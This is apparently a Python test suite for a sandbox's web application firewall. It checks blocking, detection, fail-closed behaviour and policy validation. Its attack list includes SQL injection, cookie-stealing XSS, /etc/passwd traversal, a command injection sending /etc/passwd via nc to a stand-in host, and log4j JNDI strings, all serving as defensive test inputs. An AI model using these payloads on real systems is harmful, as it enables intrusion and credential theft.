"""Rules with waf: ward-waf looks at requests before a server sees anything of them."""
import json
import os
import signal

from harness import users
from harness.world import denial, policy, trusted_world

PORTS = {"web.test": 443, "www.web.test": 443, "db.test": 80}
RULES = [{"host": "web.test", "waf": "block"}, {"host": "www.web.test", "waf": "detect"},
         {"host": "db.test", "ports": [80], "mode": "http", "waf": "block"}]

CLIENT = r"""
import http.client, json, os, ssl, sys, time
context = ssl.create_default_context()
def ask(host, path, method="GET", body=None, headers=None):
    c = http.client.HTTPConnection(host,
                                   timeout=30) if host == "db.test" else http.client.HTTPSConnection(host, timeout=30, context=context)
    c.request(method, path, body, {"User-Agent": "curl/8", "Accept": "*/*", **(headers or {})})
    r = c.getresponse()
    return r.status, r.read().decode(errors="replace")
def say(name, *what):
    print(json.dumps([name, *what]), flush=True)
def reason(answer):
    return answer[0], json.loads(answer[1])["reason"]
"""
ATTACKS = r"""
JSON, FORM = {"Content-Type": "application/json"}, {"Content-Type": "application/x-www-form-urlencoded"}
ATTACKS = {
    "sqli": ["/ATTACK?id=1%27%20OR%20%271%27=%271%20UNION%20SELECT%20password%20FROM%20users--"],
    "xss": ["/ATTACK?q=%3Cscript%3Ealert(1)%3C/script%3E"],
    "lfi": ["/ATTACK?file=../../../../etc/passwd"],
    "shell": ["/ATTACK?cmd=%3Bcat%20/etc/passwd%7Cnc%20evil.test%2080"],
    "json": ["/ATTACK", "POST", json.dumps({"deep": [{"q": "1' OR 1=1 UNION SELECT a FROM b--"}]}), JSON],
    "form": ["/ATTACK", "POST", "a=1&b=%3Cscript%3Ealert(document.cookie)%3C/script%3E", FORM],
    "header": ["/ATTACK", "GET", None, {"X-Forwarded-For": "1", "Referer": "http://x/?a=<script>alert(1)</script>", "Cookie": "a=${jndi:ldap://evil.test/a}"}],
    "log4j": ["/ATTACK?x=${jndi:ldap://evil.test/a}"],
    "broken": ["/ATTACK", "POST", '{"a": ', JSON],
}
NORMAL = {
    "get": ["/plain?page=2&sort=name"], "put": ["/plain", "POST", json.dumps({"text": "Please write a function that adds two numbers.", "n": 3}), JSON],
    "form": ["/plain", "POST", "a=1&b=two", FORM], "bytes": ["/plain", "POST", bytes(range(256)) * 300, {"Content-Type": "application/octet-stream"}],
    "large": ["/plain", "POST", "word and text " * 9000, {"Content-Type": "text/plain"}],
}
"""


def inside(t, world, script, rules=None, **options):
    ws = t.workspace({"client.py": CLIENT + ATTACKS + script})
    r = world.ward("run", "-p", policy(t, rules or RULES), "--", "/usr/bin/python3", "client.py",
                   cwd=ws, report=True, timeout=90, **options)
    t.equal(r.rc, 0, f"exit code ({r.err})")
    said = [json.loads(line) for line in r.out.splitlines()]
    return {line[0]: line[1:] for line in said}, r.report


def need(t):
    gateway = os.path.join(os.path.dirname(t.ward_path), "../inspect/ward-waf")
    if not os.path.exists(gateway):
        t.skip("built without libmodsecurity")
    if not os.path.exists("/usr/share/modsecurity-crs/rules"):
        t.skip("no modsecurity-crs")


def events(t, report):
    r = t.ward("audit", "show", "--json", report["run"])
    return [e for e in map(json.loads, r.out.splitlines()) if e.get("kind") == "net.waf"]


def test_attacks(t):
    """Classic attacks are refused under block and told under detect; what programs usually say
    passes; the server sees only that."""
    need(t)
    world = trusted_world(t)
    said, report = inside(t, world, r"""
for name, request in ATTACKS.items():
    answer = ask("web.test", *request)
    say("block " + name, answer[0], json.loads(answer[1]).get("reason"),
        json.loads(answer[1]).get("message"))
for name, request in NORMAL.items():
    say("normal " + name, ask("web.test", *request)[0])
say("detect",
    ask("www.web.test", "/SEEN?id=1%27%20OR%201=1%20UNION%20SELECT%20password%20FROM%20users--")[0])
say("plain", *reason(ask("db.test", "/ATTACK?q=%3Cscript%3Ealert(1)%3C/script%3E")),
    ask("db.test", "/fine")[0])
big = "x" * 200000
say("size", *reason(ask("web.test", "/ATTACK", "POST", big)),
    ask("www.web.test", "/SEEN", "POST", big)[0])
""")
    for name in ("sqli", "xss", "lfi", "shell", "json", "form", "header", "log4j", "broken"):
        t.equal(said[f"block {name}"][:2], [403, "waf"], name)
    t.contains(said["block sqli"][2], "SQL Injection Attack Detected via libinjection (rule 942100 "
               "of the core rule set)", "what the agent is told")
    for name in ("get", "put", "form", "bytes", "large"):
        t.equal(said[f"normal {name}"], [200], name)
    t.equal(said["detect"], [200], "detect stops nothing")
    t.equal(said["plain"], [403, "waf", 200], "without TLS")
    t.equal(said["size"], [413, "waf_size", 200], "what nobody looks at")
    log = world.log()
    t.check(not [line for line in log if "ATTACK" in line], f"the server saw an attack: {log}")
    t.equal(len([line for line in log if "SEEN" in line]), 2, "what detect let pass")
    t.contains(denial(t, report, "GET /ATTACK to web.test:443")["remedy"],
               "waf of the rule for web.test:443", "remedy")
    told = events(t, report)
    t.check(any(e["signature_id"] == 942100 and e["action"] == "deny" and e["level"] == "critical"
                and e["rule"] == "web.test:443" for e in told if "signature_id" in e),
            f"an event of block: {told}")
    t.check(any(e.get("signature_id") == 942100 and e["action"] == "log"
                and e["rule"] == "www.web.test:443" for e in told), f"an event of detect: {told}")
    t.check("UNION" not in json.dumps(told) and "alert" not in json.dumps(told),
            "nothing of a request is in an event")


def test_dead(t):
    """ward-waf killed: block refuses from then on, detect goes on, and it comes not back."""
    need(t)
    world = trusted_world(t)
    ws = t.workspace({"client.py": CLIENT + r"""
say("before", ask("web.test", "/one")[0], ask("www.web.test", "/two")[0])
open("ready", "w").close()
while not os.path.exists("killed"):
    time.sleep(0.05)
say("after", *reason(ask("web.test", "/ATTACK")), ask("www.web.test", "/three")[0])
say("again", *reason(ask("web.test", "/ATTACK")))
"""})
    report = os.path.join(t.fresh_dir("report"), "report.json")
    argv = t.ward_argv("run", "--report", report, "-p", policy(t, RULES), "--", "/usr/bin/python3",
                       "client.py", wrap=world.wrap(ws))
    process = t.popen(argv, cwd=ws, root=True)
    t.wait_until(lambda: os.path.exists(os.path.join(ws, "ready")), 40,
                 "no answer through ward-waf")
    with t.root():
        found = [int(p) for p in os.listdir("/proc") if p.isdigit()
                 and is_child(int(p), process.pid, "ward-waf")]
        t.equal(len(found), 1, f"ward-waf of this run: {found}")
        status = open(f"/proc/{found[0]}/status").read()
        t.check("Seccomp:\t2" in status and "NoNewPrivs:\t1" in status
                and "CapEff:\t0000000000000000" in status, f"it is locked up: {status}")
        fds = [os.readlink(f"/proc/{found[0]}/fd/{n}") for n in os.listdir(f"/proc/{found[0]}/fd")]
        t.equal(sorted(f.split(":")[0] for f in fds), ["/dev/null"] * 3 + ["socket"],
                "its descriptors")
        os.kill(found[0], signal.SIGKILL)
    open(os.path.join(ws, "killed"), "w").close()
    out, err = process.communicate(timeout=60)
    said = {line[0]: line[1:]
            for line in map(json.loads,
                            (out if isinstance(out, str) else out.decode()).splitlines())}
    t.equal(said["before"], [200, 200], f"before ({err})")
    t.equal(said["after"], [503, "waf_gone", 200], "block refuses, detect passes")
    t.equal(said["again"], [503, "waf_gone"], "and stays so")
    t.check(not [line for line in world.log() if "ATTACK" in line], "the server saw nothing")
    t.contains(" ".join(json.loads(t.read(report))["notes"]),
               "(ward-waf) exited before the command", "the operator is told")


def is_child(pid, ancestor, name):
    """Whether pid is called name and descends from ancestor."""
    try:
        if open(f"/proc/{pid}/comm").read().strip() != name:
            return False
        while pid > 1 and pid != ancestor:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
    except OSError:
        return False
    return pid == ancestor


def test_many(t):
    """Requests at one time each get their own answer, in whatever order; one that leaves takes
    nobody's."""
    need(t)
    world = trusted_world(t)
    said, _ = inside(t, world, r"""
import threading, socket
got = {}
def one(i):
    got[i] = ask("web.test",
                 "/n?id=%d" % i)[0] if i % 2 else ask("web.test",
                                                      "/ATTACK?q=%3Cscript%3Ealert(1)%3C/script%3E")[0]
def leave():
    s = context.wrap_socket(socket.create_connection(("web.test", 443), 20),
                            server_hostname="web.test")
    s.sendall(b"GET /left HTTP/1.1\r\nHost: web.test\r\n\r\n")
    s.close()
threads = [threading.Thread(target=one, args=(i,))
           for i in range(24)] + [threading.Thread(target=leave) for _ in range(4)]
for th in threads: th.start()
for th in threads: th.join()
say("got", sorted(i for i in got if got[i] == 200), sorted(set(got.values())))
""")
    t.equal(said["got"], [list(range(1, 24, 2)), [200, 403]], "each its own")


def test_policy(t):
    """ward check knows it; a rule that cannot have it says so."""
    ws = t.workspace()
    r = t.ward("check", policy(t, RULES), cwd=ws)
    t.equal(r.rc, 0, f"ward check ({r.out}{r.err})")
    t.contains(r.out, "waf: detect reports attacks but stops none", "what it means")
    r = t.ward("run", "-p", policy(t, [{"host": "web.test", "mode": "tcp", "waf": "block"}]), "--",
               "true", cwd=ws)
    t.equal(r.rc, 125, "waf without inspection")
    t.contains(r.err, "works in mode inspect only", "reason")
    copy = t.fresh_dir("alone")
    with t.root() if users.IS_ROOT else open(os.devnull):
        for name in ("cli/ward", "inspect/ward-gateway-tls"):
            t.run("cp", os.path.join(os.path.dirname(t.ward_path), "..", name), copy, check=True)
    r = t.run(os.path.join(copy, "ward"), "run", "-p", policy(t, RULES), "--", "true", cwd=ws)
    t.equal(r.rc, 125, "a build without it")
    t.contains(r.err, "libmodsecurity-dev", "which package")
